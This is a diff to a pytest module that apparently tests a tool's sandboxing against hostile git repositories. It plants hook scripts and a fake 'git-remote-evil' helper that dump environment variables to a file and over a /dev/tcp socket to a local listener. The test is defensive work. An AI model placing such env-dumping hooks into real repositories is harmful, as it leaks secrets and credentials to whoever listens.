@@ -114,7 +114,7 @@ class Trap:
         self.run = folder / "run"
         (folder / "hooks").mkdir(parents=True)
         folder.chmod(0o777)
-        script = f"#!/bin/bash\nenv >>{self.mark}\nexec 3<>/dev/tcp/127.0.0.1/{self.port}\nenv >&3\ncat 2>/dev/null\n"
+        script = f"#!/bin/bash\nenv >>{self.mark}\nexec 3<>/dev/tcp/127.0.0.1/{self.port}\nenv >&3\n"
         for path in (self.run, folder / "git-remote-evil", *(folder / "hooks" / name for name in _HOOKS)):
             path.write_text(script)
             path.chmod(0o755)
@@ -140,7 +140,10 @@ def trap(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Trap]:
         yield set_trap
 
 
-@pytest.fixture(params=["bubblewrap", "landlock", None])
+BEHIND_BOTH = pytest.mark.product("each wall × each hostile repository")
+
+
+@pytest.fixture(params=[*(pytest.param(name, marks=BEHIND_BOTH) for name in ("bubblewrap", "landlock")), None])
 def wall(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
     """Not to be obeyed is one wall, the sandbox another: the first holds alone."""
     monkeypatch.setattr(programs, "wall", lambda: request.param)
